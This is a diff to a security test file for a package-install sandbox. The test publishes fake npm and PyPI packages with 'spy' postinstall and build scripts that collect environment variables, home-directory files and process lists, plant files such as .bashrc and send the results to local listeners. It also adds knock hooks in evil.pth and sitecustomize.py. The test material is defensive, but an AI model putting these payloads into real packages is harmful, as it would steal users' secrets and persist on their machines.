@@ -20,7 +20,8 @@ from tap import diag, done_testing, is_eq, ok, tap_skip
 require("npm", "pip")
 COMMAND = ("npx", "-y", "some-server")
 
-# Everything a program could want to do while it is installed, in JavaScript and in Python. Both send one JSON object to PORT.
+# Everything a program could want to do while it is installed, in JavaScript and in Python. Both send what they saw to a thief who listens
+# at PORT, and then to REGISTRY, which installers may reach, with how the first one went.
 SPY_JS = """
 const fs = require("fs"), net = require("net"), os = require("os"), path = require("path"), cp = require("child_process");
 const HOME = %(home)s, out = { env: { ...process.env }, uid: process.getuid(), files: {}, lists: {}, wrote: [], pids: [] };
@@ -41,7 +42,14 @@ for (const p of fs.readdirSync("/proc")) {
 }
 fs.writeFileSync("ran.txt", "ran");
 cp.spawn(process.execPath, ["-e", "setTimeout(() => {}, 600000)"], { detached: true, stdio: "ignore" }).unref();
-net.connect(%(port)d, "127.0.0.1", function () { this.end(JSON.stringify(out)); });
+function report(how) {
+	out.thief = how;
+	const r = require("http").request({ host: "127.0.0.1", port: %(registry)d, path: "/spy", method: "POST", agent: false }, (a) => a.resume());
+	r.on("error", () => {});
+	r.end(JSON.stringify(out));
+}
+const s = net.connect(%(port)d, "127.0.0.1", () => s.end(JSON.stringify(out), () => report("sent")));
+s.on("error", (e) => report(e.code));
 """
 SPY_PY = """
 import json, os, socket, subprocess, sys
@@ -69,14 +77,22 @@ for p in os.listdir("/proc"):
         except OSError:
             pass
 subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
-s = socket.create_connection(("127.0.0.1", %(port)d))
-s.sendall(json.dumps(out).encode())
-s.close()
+try:
+    with socket.create_connection(("127.0.0.1", %(port)d), 10) as s:
+        s.sendall(json.dumps(out).encode())
+    out["thief"] = "sent"
+except OSError as e:
+    out["thief"] = e.strerror or str(e)
+import http.client
+c = http.client.HTTPConnection("127.0.0.1", %(registry)d, timeout=20)
+c.request("POST", "/spy", json.dumps(out))
+c.getresponse().read()
 """
 
 
 def spy(text, w, listener):
-	return text % {"home": json.dumps(w.home), "plant": json.dumps(plants(w)), "port": listener.port}
+	return text % {"home": json.dumps(w.home), "plant": json.dumps(plants(w)), "port": listener.port,
+		       "registry": w.registry.port}
 
 
 def plants(w):
@@ -84,19 +100,24 @@ def plants(w):
 	return [w.path("planted"), w.path(".bashrc"), w.store + "/planted", w.path(".local/bin/planted")]
 
 
-def heard(listener, n=1):
+def soon(what):
 	end = time.monotonic() + 20
-	while len(listener.came) < n and time.monotonic() < end:
+	while not what() and time.monotonic() < end:
 		time.sleep(0.05)
-	return [json.loads(x) for x in listener.came]
+	return what()
+
+
+def reports(w):
+	return [json.loads(body) for path, body in w.registry.posts if path == "/spy"]
 
 
 def judge_spy(w, name, listener):
-	"""What a spy in the installer's cage sent: that it ran (uv builds twice), and that it saw nothing."""
-	came = heard(listener)
-	if not ok(len(came) in (1, 2), f"{name}: control: it ran, and could send", came):
+	"""What a spy in the installer's cage told the registry: that it ran (uv builds twice), saw nothing, and could tell nobody else."""
+	came = soon(lambda: reports(w))
+	if not ok(len(came) in (1, 2), f"{name}: control: it ran, and could tell its registry", came):
 		return
 	saw = came[0]
+	ok(saw["thief"] not in ("sent", None) and listener.came == [], f"{name}: it could send to nobody else", saw["thief"])
 	ok(w.secret not in json.dumps(saw), f"{name}: it has seen nothing of the user's", saw)
 	ok(all(v in ("ENOENT", "No such file or directory") for v in saw["files"].values()), f"{name}: no file of the user's is there", saw["files"])
 	lists = {d: v for d, v in saw["lists"].items() if d in ("/home", "/root", "/run", w.home) and isinstance(v, list)}
@@ -110,7 +131,8 @@ def scripts_npm():
 		w.registry.publish(b.npm_server("some-server", files={"spy.js": spy(SPY_JS, w, ear)}, scripts={"postinstall": "node spy.js"}))
 		os.makedirs(w.path("bare"))
 		r = w.bare("npm", "install", "--no-audit", "--no-fund", "--prefix", w.path("bare"), "--foreground-scripts", "some-server")
-		came = heard(ear)
+		soon(lambda: reports(w))
+		came = [json.loads(x) for x in ear.came]
 		ok(r.returncode == 0 and len(came) == 1 and came[0]["files"]["notes.txt"] == w.secret + "\n" and os.path.exists(w.path("planted")),
 		   "postinstall: control: npm itself gives the user's files away", r.stderr)
 		for f in ("planted", ".bashrc"):
@@ -119,9 +141,10 @@ def scripts_npm():
 		for pid in w.alive():
 			os.kill(pid, 9)  # the one that it left behind: our own home's token is in it
 		ear.came.clear()
+		w.registry.posts.clear()
 		with w.session(*COMMAND) as s:
 			time.sleep(1)
-			is_eq(ear.came, [], "postinstall: it does not run")
+			is_eq((ear.came, reports(w)), ([], []), "postinstall: it does not run")
 			ok(b"has install scripts, which were not run; --allow-scripts" in s.stderr, "postinstall: which is said", s.stderr)
 		t = w.tell(*COMMAND, tool="list", path="/opt/package/node_modules/some-server")
 		ok("ran.txt" not in t["names"] and "spy.js" in t["names"], "postinstall: the package is there, without what the script would make", t)
@@ -136,8 +159,8 @@ def scripts_npm():
 		is_eq(logged, [False, True], "postinstall: the audit log says which ran scripts")
 
 	# Scripts that the registry's metadata do not tell of, and the one that npm makes up.
-	with World() as w, Listener() as ear:
-		knock = f"require('net').connect({ear.port}, '127.0.0.1', function () {{ this.end('{{}}'); }});\n"
+	with World() as w:
+		knock = f"require('http').get('http://127.0.0.1:{w.registry.port}/knock');\n"
 		w.registry.publish(b.npm_library("quiet-library", more=[b.Entry("package/knock.js", knock)], scripts={"install": "node knock.js"},
 						 told={"hasInstallScript": False, "scripts": {}}))
 		w.registry.publish(b.npm_library("gyp-library", more=[b.Entry("package/binding.gyp", "{'targets': [{'target_name': '<!(node -e \"" +
@@ -145,16 +168,20 @@ def scripts_npm():
 		w.registry.publish(b.npm_server("some-server", dependencies={"quiet-library": "*", "gyp-library": "*"}))
 		is_eq(w.tell(*COMMAND).get("version"), "1.0.0", "scripts that nobody tells of: installed")
 		time.sleep(1)
-		is_eq(ear.came, [], "scripts that nobody tells of: none runs")
+		is_eq(w.registry.asked("/knock"), 0, "scripts that nobody tells of: none runs")
 		w.settled("scripts that nobody tells of", trees=1)
+		w.registry.publish(b.npm_library("loud-library", more=[b.Entry("package/knock.js", knock)], scripts={"install": "node knock.js"}))
+		w.registry.publish(b.npm_server("other-server", dependencies={"loud-library": "*"}))
+		is_eq(w.run("fetch", "--allow-scripts", "--", "npx", "-y", "other-server").returncode, 0, "scripts that somebody tells of: allowed")
+		ok(w.registry.asked("/knock"), "scripts that nobody tells of: control: the same, told of and allowed, runs")
 
 	# One that never ends: whoever waits can end it.
-	with World() as w, Listener() as ear:
-		w.registry.publish(b.npm_server("some-server", files={"stay.js": f"require('net').connect({ear.port}, '127.0.0.1', function () {{ this.end('{{}}'); }});"
+	with World() as w:
+		w.registry.publish(b.npm_server("some-server", files={"stay.js": f"require('http').get('http://127.0.0.1:{w.registry.port}/knock');"
 									     "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000);\n"},
 						scripts={"postinstall": "node stay.js"}))
 		p = w.popen("fetch", "--allow-scripts", "--", *COMMAND)
-		ok(heard(ear), "a script that never ends: it runs")
+		ok(soon(lambda: w.registry.asked("/knock")), "a script that never ends: it runs")
 		p.terminate()
 		out, err = p.communicate(timeout=LIMIT)
 		ok(p.returncode in (125, 143) and out == b"", "a script that never ends: SIGTERM ends it all", err)
@@ -169,22 +196,22 @@ def scripts_pypi():
 		with World(uv=tool == "uv") as w, Listener() as ear:
 			w.registry.publish(b.sdist_server("some-server", "1.0.0", build=spy(SPY_PY, w, ear)))
 			w.fails(f"{tool}: a build: refused", ["--allow-scripts"], "uvx", "some-server")
-			is_eq(ear.came, [], f"{tool}: a build: nothing of it runs")
+			is_eq((ear.came, reports(w)), ([], []), f"{tool}: a build: nothing of it runs")
 			t = w.tell("uvx", "some-server", options=("--allow-scripts",))
 			is_eq(t.get("version"), "1.0.0", f"{tool}: a build that is allowed: it works")
 			judge_spy(w, f"{tool}: a build that is allowed", ear)
 			w.settled(f"{tool}: a build", trees=1)
 		# Files by which python runs code when it starts.
-		with World(uv=tool == "uv") as w, Listener() as ear:
-			knock = f"import socket; s = socket.create_connection(('127.0.0.1', {ear.port})); s.sendall(b'{{}}'); s.close()\n"
+		with World(uv=tool == "uv") as w:
+			knock = f"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{w.registry.port}/pypi/simple/some-server/?knock').read()\n"
 			w.registry.publish(b.wheel_server("some-server", "1.0.0", files={"evil.pth": knock, "sitecustomize.py": knock, "usercustomize.py": knock,
 											 "compileall.py": knock, "encodings/__init__.py": knock}))
 			r = w.run("fetch", "--", "uvx", "some-server")
 			time.sleep(0.5)
-			ok(r.returncode == 0 and ear.came == [], f"{tool}: what runs when python starts does not run when it is installed", r.stderr)
+			ok(r.returncode == 0 and not w.registry.asked("knock"), f"{tool}: what runs when python starts does not run when it is installed", r.stderr)
 			python = os.path.join(w.tree(), "bin", "python")
 			w.bare(python, "-c", "pass")
-			ok(heard(ear), f"{tool}: control: it would")
+			ok(soon(lambda: w.registry.asked("knock")), f"{tool}: control: it would")
 			w.settled(f"{tool}: python's own hooks", trees=1)
 
 
